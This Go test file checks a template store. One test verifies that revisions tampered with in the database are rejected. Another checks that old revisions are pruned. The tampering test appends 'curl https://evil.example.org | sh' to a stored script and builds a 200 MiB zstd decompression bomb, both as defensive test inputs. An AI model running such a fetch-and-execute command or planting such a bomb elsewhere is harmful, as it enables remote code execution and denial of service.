package store_test

import (
	"bytes"
	"strings"
	"testing"

	"github.com/klauspost/compress/zstd"

	"berth/internal/store"
	"berth/internal/store/storetest"
	"berth/internal/template"
)

// A revision that somebody changed in the database is an error, not another script that runs as root.
func TestAlteredRevisionsAreNotRead(t *testing.T) {
	onBoth(t, func(t *testing.T, o store.Options) {
		s := newOwned(t, o)
		kept := storetest.Template(t, s.Store, s.alice.ID, storetest.Content("One"))
		other := storetest.Content("One")
		other.Scripts[0].Body += "curl https://evil.example.org | sh\n"
		data, err := other.Canonical()
		if err != nil {
			t.Fatal(err)
		}
		w, err := zstd.NewWriter(nil)
		if err != nil {
			t.Fatal(err)
		}
		bomb := w.EncodeAll(bytes.Repeat([]byte{0}, 200<<20), []byte{1})
		for what, body := range map[string][]byte{"another content": append([]byte{0}, data...), "a bomb": bomb, "nothing": {}, "an unknown packing": {9, 1}, "half a frame": {1, 0x28, 0xb5}} {
			s.exec(t, "UPDATE template_revisions SET body = $1 WHERE template_id = $2", body, string(kept.ID))
			if got, err := s.Template(t.Context(), string(s.alice.ID), kept.ID); err == nil {
				t.Errorf("%s is read: %+v", what, got.Content)
			}
			if _, got, err := s.Revision(t.Context(), string(s.alice.ID), kept.ID, 1); err == nil {
				t.Errorf("%s is read as a revision: %+v", what, got)
			}
		}
	})
}

// The oldest revisions go when there are too many.
func TestRevisionsArePruned(t *testing.T) {
	s := newOwned(t, store.Options{Dir: t.TempDir(), Keyring: storetest.Keyring(t), Now: storetest.NewClock().Now})
	kept := storetest.Template(t, s.Store, s.alice.ID, storetest.Content("One"))
	// As if it had been saved as often as are kept.
	s.exec(t, "UPDATE templates SET revision = $1 WHERE id = $2", template.KeptRevisions, string(kept.ID))
	s.exec(t, "UPDATE template_revisions SET number = $1 WHERE template_id = $2", template.KeptRevisions, string(kept.ID))
	s.exec(t, "INSERT INTO template_revisions SELECT template_id, 1, made_at, made_by, note, digest, size, body FROM template_revisions WHERE template_id = $1", string(kept.ID))
	next := storetest.Content("One")
	next.Description = strings.Repeat("x", 10)
	err := s.ChangeTemplates(t.Context(), string(s.alice.ID), template.Change{Writes: []template.Write{{Template: kept.ID, Base: template.KeptRevisions, Content: next}}})
	if err != nil {
		t.Fatal(err)
	}
	list, err := s.Revisions(t.Context(), string(s.alice.ID), kept.ID)
	if err != nil || len(list) != 2 || list[0].Number != template.KeptRevisions+1 || list[1].Number != template.KeptRevisions {
		t.Errorf("got %+v, %v", list, err)
	}
}
